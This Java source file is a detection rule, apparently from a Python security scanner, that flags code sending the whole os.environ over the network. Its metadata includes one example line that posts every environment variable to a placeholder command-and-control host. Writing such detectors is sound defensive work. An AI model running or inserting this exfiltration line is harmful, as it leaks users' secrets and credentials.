package dev.kingsnake.rules.exfil;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.facts.Destinations;
import dev.kingsnake.spi.python.Expr;

import java.util.Set;

/** The whole environment (every variable, secrets included) serialised or sent out. */
public final class EnvHarvestRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-ENV-DUMP",
            "Collects the whole process environment (os.environ copied, serialised or iterated) where data is sent out",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.CREDENTIALS, Tags.EXFILTRATION),
            "requests.post('https://c2.example.invalid/e', json=dict(os.environ))",
            "os.environ.copy() to build a child process's environment is normal and is only reported when the same "
                    + "function also sends data over the network; reading single variables is never reported by this rule.");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        for (CallFacts.CallFact c : facts.calls()) {
            boolean direct = c.is(Capability.NETWORK) && passesEnviron(file, c.call());
            if (!direct && !c.is(Capability.ENV_ALL)) {
                continue;
            }
            if (direct || facts.scopeOrReadersHave(c.scope(), Capability.SEND)
                    || Destinations.requestsBuiltUrl(facts, c.scope())) {
                sink.report(file, c.call(), "the whole environment is collected where data is sent out");
            }
        }
    }

    private static boolean passesEnviron(PythonFile file, Expr.Call call) {
        for (Expr a : call.args()) {
            if (file.qualifiedName(a).map("os.environ"::equals).orElse(false)) {
                return true;
            }
        }
        for (Expr.Keyword k : call.keywords()) {
            if (file.qualifiedName(k.value()).map("os.environ"::equals).orElse(false)) {
                return true;
            }
        }
        return false;
    }
}
